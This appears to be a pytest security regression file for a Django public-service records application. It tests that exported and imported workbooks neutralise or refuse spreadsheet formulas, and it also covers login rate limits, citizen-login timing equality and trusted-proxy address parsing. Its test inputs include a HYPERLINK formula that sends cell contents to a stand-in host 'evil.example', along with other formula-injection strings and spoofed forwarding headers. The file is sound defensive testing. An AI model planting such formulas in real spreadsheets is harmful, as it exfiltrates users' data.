"""Spreadsheet formulas, login attempt limits, account enumeration and the dossier-guess budget.

Each test is an attack that got through before: a formula typed as a name became a live formula
in the exported workbooks, a formula cell was imported, staff and admin passwords could be
guessed without limit, a citizen login for an unknown ID did no hashing (a timing oracle), the
three code + 4-digit look-ups had a bucket each, and behind a reverse proxy every client shared
the proxy's address.
"""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.contrib.auth import hashers
from django.core.management.base import CommandError
from django.test import Client, override_settings

from motcua.accounts.models import User
from motcua.accounts.roles import Role
from motcua.audit.models import AuditEvent
from motcua.catalog.excel import SheetError, export_catalog, import_catalog
from motcua.catalog.models import ProcedureVersion
from motcua.catalog.services import load_catalog
from motcua.citizens.models import CitizenProfile
from motcua.core.ratelimit import client_address
from motcua.documents.formsets import FormKind, form_for
from motcua.documents.render import render_tracking_book_xlsx
from motcua.dossiers.models import Dossier
from motcua.units.services import load_reference_units
from tests.catalog_data import catalog
from tests.conftest import PASSWORD
from tests.documents.samples import context_for

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
DAY = dt.date(2026, 1, 5)


# --- Spreadsheet formula injection -------------------------------------------------------------


def test_a_formula_typed_as_a_name_is_text_in_the_tracking_book() -> None:
    form = form_for(FormKind.TRACKING_BOOK, DAY)
    context: Any = context_for(form.kind, DAY)
    row = dataclasses.replace(
        context.rows[-1], applicant_name=FORMULA, applicant_address="+1+1", note="@SUM(1)"
    )
    context = dataclasses.replace(context, rows=(*context.rows[:-1], row))
    sheet = openpyxl.load_workbook(io.BytesIO(render_tracking_book_xlsx(form, context))).active
    assert sheet is not None
    last = sheet.max_row
    name, contact, note = (sheet.cell(row=last, column=c) for c in (5, 6, 14))
    assert name.value == FORMULA  # what the reader sees is unchanged
    assert str(contact.value).startswith("+1+1")
    assert note.value == "@SUM(1)"
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in (name, contact, note))
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
    assert sheet.cell(row=last, column=1).data_type == "n"  # numbers stay numbers
    assert sheet.cell(row=last, column=4).data_type == "n"


def test_the_catalogue_export_writes_formula_like_text_as_text() -> None:
    load_catalog(catalog())
    version = ProcedureVersion.objects.order_by("pk").first()
    assert version is not None
    version.name = FORMULA
    version.publication_decision = "-1+2"
    version.save()
    sheet = openpyxl.load_workbook(io.BytesIO(export_catalog(dt.date(2024, 5, 19)))).active
    assert sheet is not None
    found = [cell for line in sheet.iter_rows() for cell in line if cell.value == FORMULA]
    assert found
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
    numbers = [line[0].value for line in sheet.iter_rows(min_row=5) if line[1].value]
    assert numbers
    assert all(isinstance(n, int) for n in numbers)


def test_a_catalogue_import_with_a_formula_is_refused_naming_the_cell(tmp_path: Path) -> None:
    load_catalog(catalog())
    wb = openpyxl.load_workbook(io.BytesIO(export_catalog(dt.date(2024, 5, 19))))
    ws = wb.active
    assert ws is not None
    ws["I8"] = '=HYPERLINK("http://evil.example","QĐ 1")'
    path = tmp_path / "cong-thuc.xlsx"
    wb.save(path)
    before = ProcedureVersion.objects.count()
    with pytest.raises(SheetError) as error, path.open("rb") as source:
        import_catalog(source, dt.date(2026, 12, 1))
    assert any("I8" in p and "công thức" in p for p in error.value.problems)
    assert ProcedureVersion.objects.count() == before


def test_a_dossier_import_with_a_formula_is_refused_naming_the_cell(tmp_path: Path) -> None:
    from tests.reports.test_import import GOOD, HEADER, _import

    load_reference_units()
    load_catalog(catalog())
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(HEADER.split(","))
    sheet.append(GOOD[2].split(","))
    sheet["J2"] = '=HYPERLINK("http://evil.example","Phạm C")'
    path = tmp_path / "ho-so.xlsx"
    workbook.save(path)
    with pytest.raises(CommandError, match=r"Dòng 2.*Ô J2 chứa công thức"):
        _import(path)
    assert not Dossier.objects.exists()


# --- Staff and admin login attempt limits ------------------------------------------------------


def _post_login(url: str, username: str, password: str, address: str) -> Any:
    return Client(REMOTE_ADDR=address).post(url, {"username": username, "password": password})


def _signed_in(response: Any) -> bool:
    return response.status_code == 302 and "_auth_user_id" in response.client.session


@pytest.mark.parametrize("url", ["/dang-nhap/", "/quan-tri/login/"])
def test_guessing_a_password_is_stopped_at_that_address_but_not_for_the_owner(
    administrator: User, url: str
) -> None:
    for _ in range(30):
        assert not _signed_in(_post_login(url, "quantri", "sai-mat-khau", "198.51.100.7"))
    refused = _post_login(url, "quantri", PASSWORD, "198.51.100.7")
    assert not _signed_in(refused)
    assert "quá nhiều lần" in refused.content.decode()
    assert _signed_in(_post_login(url, "quantri", PASSWORD, "203.0.113.20"))
    assert AuditEvent.objects.filter(action="login_locked").exists()


def test_one_address_guessing_many_accounts_is_stopped(make_staff: Any) -> None:
    make_staff(Role.RECEIVING_OFFICER, "tiepnhan")
    for number in range(40):
        _post_login("/dang-nhap/", f"nguoi-{number}", "sai", "198.51.100.8")
    assert not _signed_in(_post_login("/dang-nhap/", "tiepnhan", PASSWORD, "198.51.100.8"))
    assert _signed_in(_post_login("/dang-nhap/", "tiepnhan", PASSWORD, "203.0.113.21"))


# --- Citizen login enumeration -----------------------------------------------------------------


@pytest.fixture
def hasher_calls(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    calls: list[str] = []
    hasher = type(hashers.get_hasher("default"))
    encode, verify = hasher.encode, hasher.verify

    def counted_encode(self: Any, *args: Any, **kwargs: Any) -> Any:
        calls.append("encode")
        return encode(self, *args, **kwargs)

    def counted_verify(self: Any, *args: Any, **kwargs: Any) -> Any:
        calls.append("verify")
        return verify(self, *args, **kwargs)

    monkeypatch.setattr(hasher, "encode", counted_encode)
    monkeypatch.setattr(hasher, "verify", counted_verify)
    return calls


def _citizen(personal_id: str, *, active: bool = True) -> CitizenProfile:
    user = User(username=personal_id, full_name="Nguyễn Văn An", is_active=active)
    user.set_password(PASSWORD)
    user.save()
    return CitizenProfile.objects.create(user=user, personal_id=personal_id, full_name="An")


def test_citizen_login_does_the_same_hashing_for_unknown_known_and_closed_accounts(
    hasher_calls: list[str],
) -> None:
    _citizen("089190000123")
    _citizen("089190000124", active=False)
    answers = []
    for number, address in (
        ("089190000999", "203.0.113.30"),  # no account
        ("089190000123", "203.0.113.31"),  # an account, wrong password
        ("089190000124", "203.0.113.32"),  # a closed account
    ):
        hasher_calls.clear()
        response = Client(REMOTE_ADDR=address).post(
            "/cong-dan/dang-nhap/", {"personal_id": number, "password": "sai-mat-khau-1"}
        )
        answers.append((len(hasher_calls), response.status_code, response.content.count(b"alert")))
        assert "không đúng" in response.content.decode()
    assert answers[0] == answers[1] == answers[2]
    assert answers[0][0] == 1


def test_a_stranger_cannot_lock_a_citizen_out() -> None:
    _citizen("089190000123")
    for _ in range(20):
        Client(REMOTE_ADDR="198.51.100.9").post(
            "/cong-dan/dang-nhap/", {"personal_id": "089190000123", "password": "sai"}
        )
    response = Client(REMOTE_ADDR="203.0.113.33").post(
        "/cong-dan/dang-nhap/", {"personal_id": "089190000123", "password": PASSWORD}
    )
    assert response.status_code == 302


# --- One budget for code + 4-digit guesses; the client behind a trusted proxy ------------------


def _guess(page: str, client: Client) -> Any:
    data = {"ma": "H01.30406-260105-0001", "so": "1234"}
    return client.post(page, data)


GUESS_PAGES = ("/tra-cuu/", "/thanh-toan/", "/phan-anh/danh-gia/")


def _refused(response: Any) -> bool:
    return "quá nhiều lần" in response.content.decode()


def test_the_three_look_ups_share_one_guess_budget() -> None:
    client = Client(REMOTE_ADDR="198.51.100.10")
    for number in range(20):
        assert not _refused(_guess(GUESS_PAGES[number % 3], client))
    assert all(_refused(_guess(page, client)) for page in GUESS_PAGES)


def test_the_client_address_is_read_from_a_trusted_proxy_only() -> None:
    proxy = "10.0.0.5"
    with override_settings(MOTCUA_TRUSTED_PROXIES=("10.0.0.0/24", "127.0.0.1")):
        first = Client(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR="203.0.113.40")
        for _ in range(20):
            assert not _refused(_guess("/tra-cuu/", first))
        assert _refused(_guess("/tra-cuu/", first))
        second = Client(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR="203.0.113.41")
        assert not _refused(_guess("/tra-cuu/", second))
        # An untrusted peer cannot pick its address by sending the header itself.
        for number in range(21):
            direct = Client(REMOTE_ADDR="198.51.100.11", HTTP_X_FORWARDED_FOR=f"192.0.2.{number}")
            last = _guess("/tra-cuu/", direct)
        assert _refused(last)


@pytest.mark.parametrize(
    ("peer", "forwarded", "client"),
    [
        ("10.0.0.5", "203.0.113.40", "203.0.113.40"),
        ("10.0.0.5", "6.6.6.6, 203.0.113.40, 10.0.0.7", "203.0.113.40"),  # rightmost untrusted
        ("198.51.100.11", "203.0.113.40", "198.51.100.11"),  # not a proxy: header ignored
        ("10.0.0.5", "not-an-address", "10.0.0.5"),
        ("10.0.0.5", "", "10.0.0.5"),
    ],
)
def test_the_rightmost_untrusted_hop_is_the_client(peer: str, forwarded: str, client: str) -> None:
    from django.test import RequestFactory

    request = RequestFactory().get("/", REMOTE_ADDR=peer, HTTP_X_FORWARDED_FOR=forwarded)
    with override_settings(MOTCUA_TRUSTED_PROXIES=("10.0.0.0/24",)):
        assert client_address(request) == client
